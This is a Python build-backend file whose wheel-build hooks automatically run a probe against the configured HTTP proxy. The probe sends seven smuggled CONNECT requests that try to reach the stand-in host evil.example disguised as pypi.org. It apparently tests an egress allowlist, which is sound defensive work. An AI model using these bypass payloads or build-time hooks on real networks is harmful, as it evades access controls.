import os
import socket
import sys


def ask(request):
    """The first line of what the proxy answers."""
    host, port = os.environ["http_proxy"].split("//")[1].strip("/").rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), timeout=30)
    connection.sendall(request)
    connection.settimeout(30)
    answer = connection.recv(4096)
    return answer.split(b"\r\n")[0].decode("latin-1")


def attack():
    doors = 0
    for request in (
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: pypi.org:443\r\n\r\n",
        b"CONNECT pypi.org:443@evil.example:443 HTTP/1.1\r\n\r\n",
        b"CONNECT evil.example:443#pypi.org:443 HTTP/1.1\r\n\r\n",
        b"CONNECT evil.example\x00.pypi.org:443 HTTP/1.1\r\n\r\n",
        b"CONNECT evil.example:443\tpypi.org:443 HTTP/1.1\r\n\r\n",
        b"CONNECT\tevil.example:443 HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\nContent-Length: 40\r\n\r\nCONNECT evil.example:443 HTTP/1.1\r\n\r\n",
    ):
        line = ask(request)
        doors += " 200" in line
    print("open door" if doors else "closed door")


def broken(*words, **more):
    attack()
    sys.stdout.flush()
    raise SystemExit("the attack is over")


get_requires_for_build_wheel = prepare_metadata_for_build_wheel = build_wheel = broken
